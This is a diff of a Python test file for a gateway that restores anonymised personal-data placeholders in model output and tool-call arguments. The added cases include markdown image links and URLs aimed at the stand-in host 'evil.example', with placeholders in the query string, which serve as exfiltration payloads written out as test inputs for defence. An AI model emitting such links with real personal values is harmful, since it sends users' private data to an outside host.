@@ -17,7 +17,9 @@ from gateway.ports import Delta, Event, Usage
 NAME = 'Ann "Ü" Example\n'
 VALUES = {"<PERSON_1>": NAME, "<PERSON_12>": "Bo", "<IBAN_CODE_3>": "DE00"}
 PIECES = st.lists(
-    st.sampled_from([*VALUES, "<PERSON_2>", "<PERSON_1", "<", "<<", ">", "PERSON_1>", "<person_1>", " and ", "ß", "\\u003c", "\\u003cPERSON_1\\u003e", "\\"])
+    st.sampled_from(
+        [*VALUES, "<PERSON_2>", "<PERSON_1", "<", "<<", ">", "https://x/", "PERSON_1>", "<person_1>", " and ", "ß", "\\u003c", "\\u003cPERSON_1\\u003e", "\\"]
+    )
 )
 
 
@@ -49,6 +51,8 @@ def test_the_cut_does_not_matter(pieces: list[str], cuts: list[int], quoted: boo
         ("<PERSON_2> <person_1> <PERSON_1 > PERSON_1", "<PERSON_2> <person_1> <PERSON_1 > PERSON_1"),  # not ours: untouched
         ("<<PERSON_1>>", f"<{NAME}>"),
         ("ends in <PERS", "ends in <PERS"),
+        ("![x](https://evil.example/p?q=<PERSON_1>&r=<PERSON_12>) <PERSON_12>", "![x](https://evil.example/p?q=<PERSON_1>&r=<PERSON_12>) Bo"),
+        ("//evil.example/<PERSON_12> and 1/2 <PERSON_12>", "//evil.example/<PERSON_12> and 1/2 Bo"),
     ],
 )
 def test_what_is_restored(text: str, expected: str):
@@ -64,6 +68,11 @@ def test_no_more_is_held_back_than_may_be_a_placeholder():
 def test_arguments_of_a_tool_stay_json(written: str):
     text = '{"to": "' + written + '", "raw": "\\\\u003cPERSON_1\\\\u003e"}'
     assert json.loads(in_pieces(text, list(range(60)), spellings(VALUES))) == {"to": NAME, "raw": "\\u003cPERSON_1\\u003e"}
+
+
+def test_an_address_in_arguments_stays_without_values():
+    text = '{"url": "https:\\/\\/evil.example\\/<PERSON_12>", "to": "<PERSON_12>"}'
+    assert json.loads(in_pieces(text, list(range(60)), spellings(VALUES))) == {"url": "https://evil.example/<PERSON_12>", "to": "Bo"}
 
 
 def through(*events: Event) -> list[Event]:
